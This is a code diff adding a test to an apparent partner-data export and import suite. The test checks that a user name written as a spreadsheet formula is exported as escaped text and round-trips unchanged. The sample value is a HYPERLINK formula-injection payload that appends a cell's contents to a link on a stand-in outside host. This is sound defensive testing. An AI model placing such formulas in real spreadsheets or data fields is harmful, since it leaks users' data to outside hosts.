@@ -148,6 +148,20 @@ describe('partners and outlets', () => {
     expect(mine.every((r: { action: string }) => r.action === 'unchanged')).toBe(true);
   });
 
+  it('exports a name that looks like a formula as text, and imports it back as it was', async () => {
+    const formula = '=HYPERLINK("https://contoh.id/?"&C2,"Lihat")';
+    await h.db
+      .update(users)
+      .set({ name: formula })
+      .where(eq(users.username, `${prefix}1`));
+    const res = await download(admin, '/export-data?kind=partners');
+    const rows = await sheetRows(res.bytes);
+    expect(rows.find((r) => r[1] === `${prefix}1`)?.[0]).toBe(`'${formula}`);
+    const back = expectOk(await preview(admin, 'partners', res.bytes));
+    const mine = back.rows.filter((r: { label: string }) => r.label.startsWith(prefix));
+    expect(mine.every((r: { action: string }) => r.action === 'unchanged')).toBe(true);
+  });
+
   it('reads a semicolon CSV as Excel writes it, keeping leading zeros, and updates what changed', async () => {
     const header = PARTNER_HEADERS.join(';');
     const line = [
